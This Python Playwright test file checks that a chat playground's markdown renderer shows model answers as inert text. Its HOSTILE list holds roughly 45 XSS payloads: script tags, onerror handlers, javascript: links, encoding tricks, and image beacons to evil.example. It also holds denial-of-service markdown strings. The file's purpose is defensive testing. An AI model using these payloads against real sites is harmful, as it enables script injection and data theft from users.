"""A model's answer is hostile text: whatever it writes, nothing runs and nothing is fetched."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from tests.browser.playground import Playground, chromium_running, opened
from tests.running import RunningServer

pytestmark = [pytest.mark.server, pytest.mark.browser]

# The demo provider repeats the message, so each of these comes back as the model's answer.
HOSTILE = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=https://evil.example/p.png onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><use href=https://evil.example/x.svg#a></svg>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=q autofocus onfocus=window.pwned=1></form>",
    "<body onload=window.pwned=1><details open ontoggle=window.pwned=1>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'>",
    "<template><img src=x onerror=pwned=1></template><noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "![pixel](https://evil.example/p.png?secret=1)",
    '![p](https://evil.example/p.png "t\\" onerror=window.pwned=1")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiPg==)",
    "[![i](https://evil.example/i.png)](javascript:window.pwned=1)",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](<java\nscript:window.pwned=1>)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](javascript&colon;window.pwned=1)",
    "[click](\x01javascript:window.pwned=1)",
    "[click](vbscript:msgbox(1)) [d](data:text/html,<script>opener.pwned=1</script>) [f](file:///etc/passwd)",
    "[click](//evil.example/x) [r](/accounts/logout/) [b](blob:https://evil.example/1)",
    "<javascript:window.pwned=1> <data:text/html,x>",
    '[a](https://ok.example/"onmouseover="window.pwned=1)',
    "[a](https://ok.example 'x' onclick=window.pwned=1)",
    "[<img src=https://evil.example/z.png onerror=window.pwned=1>](https://ok.example)",
    "https://ok.example/<script>window.pwned=1</script>",
    "`<img src=x onerror=window.pwned=1>` and ``` <script>window.pwned=1</script> ```",
    '```html" onclick="window.pwned=1\n<script>window.pwned=1</script>\n```',
    "```<script>window.pwned=1</script>\n</code></pre><img src=https://evil.example/q.png>\n```",
    "| a | <img src=x onerror=pwned=1> |\n|---|---|\n| [x](javascript:pwned=1) | ![i](https://evil.example/t.png) |",
    "# <script>window.pwned=1</script>\n> <img src=https://evil.example/1.png>\n- <svg/onload=window.pwned=1>",
    "[ref]: javascript:window.pwned=1\n\n[ref] [x][ref]",
    "<a href=javascript:window.pwned=1>x</a><a href=https://evil.example/ ping=https://evil.example/ping>y</a>",
    "<video src=https://evil.example/v.mp4 autoplay><audio src=//evil.example/a.mp3><source src=x onerror=pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "\u202ehttps://evil.example/\u202c ==>\u0000<script>window.pwned=1</script>",
    '<img src="x" style="background:url(https://evil.example/s.png)"><div style=position:fixed;inset:0>cover</div>',
    "*a_" * 500,
    ">" * 600 + " " + "- " * 300 + "[" * 300,
]

# What an answer may consist of, and nothing else.
ALLOWED = {
    "p", "br", "hr", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "em", "strong", "s", "code", "pre", "a",
    "table", "thead", "tbody", "tr", "th", "td", "div", "figure", "figcaption", "span", "button",
}  # fmt: skip

INSPECT = """() => {
  const nodes = [...document.querySelectorAll(".msgbody *")];
  return {
    pwned: "pwned" in window,
    tags: [...new Set(nodes.map((node) => node.tagName.toLowerCase()))],
    attributes: [...new Set(nodes.flatMap((node) => node.getAttributeNames()))],
    links: nodes.filter((node) => node.tagName === "A")
      .map((a) => ({protocol: a.protocol, rel: a.rel, host: a.dataset.host})),
    deepest: nodes.reduce((most, node) => {
      let depth = 0;
      for (let up = node; up && !up.matches(".msgbody"); up = up.parentElement) depth += 1;
      return Math.max(most, depth);
    }, 0),
  };
}"""


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Browser]:
    with chromium_running(chromium) as running:
        yield running


@pytest.fixture(scope="module")
def playground(server: RunningServer, browser: Browser) -> Iterator[Playground]:
    with opened(browser, server) as page:
        yield page


def test_there_are_enough_payloads() -> None:
    assert len(set(HOSTILE)) >= 30


@pytest.mark.parametrize("payload", HOSTILE, ids=[f"{number}" for number in range(len(HOSTILE))])
def test_a_hostile_answer_stays_text(playground: Playground, payload: str) -> None:
    if playground.page.locator("#pg-clear").is_visible():
        playground.page.click("#pg-clear")
    playground.ask(payload)
    seen = playground.page.evaluate(INSPECT)
    assert not seen["pwned"]
    assert set(seen["tags"]) <= ALLOWED
    assert not [
        name for name in seen["attributes"] if name.startswith("on") or name in ("src", "style", "srcdoc", "id")
    ]
    assert all(link["protocol"] in ("http:", "https:", "mailto:") for link in seen["links"])
    assert all(set(link["rel"].split()) == {"noopener", "noreferrer", "nofollow"} for link in seen["links"])
    assert all(link["host"] for link in seen["links"])
    assert seen["deepest"] < 60
    assert playground.foreign == []
    assert playground.dialogs == []
    assert playground.errors == []


def test_what_was_written_is_all_there_as_plain_text(playground: Playground) -> None:
    playground.page.click("#pg-clear")
    payload = "<script>window.pwned=1</script> ![pixel](https://evil.example/p.png) **bold**"
    playground.ask(payload)
    assert (
        playground.text(".msg-assistant .msgbody") == "<script>window.pwned=1</script> image: evil.example (pixel) bold"
    )
    playground.page.click('[data-view="plain"]')
    assert playground.text(".msg-assistant .msgbody") == payload
    playground.page.click('[data-view="rendered"]')


@pytest.mark.parametrize(
    "unit", ["*a_*a_", "[a](", "a* ", "`" * 3 + " ", "> - ", "![", "http://[ ", "|-|-|\n", "\\(", "a\n"]
)
def test_no_answer_freezes_the_tab(playground: Playground, unit: str) -> None:
    # Of three the quickest: a pause of this machine is none of the page's.
    spent = playground.page.evaluate(
        """async (text) => {
          const { MarkdownView } = await import("/static/js/playground/markdown.js");
          const once = () => {
            const began = performance.now();
            new MarkdownView(document.createElement("div")).show(text);
            return performance.now() - began;
          };
          return Math.min(once(), once(), once());
        }""",
        unit * (60_000 // len(unit)),
    )
    assert spent < 2_000
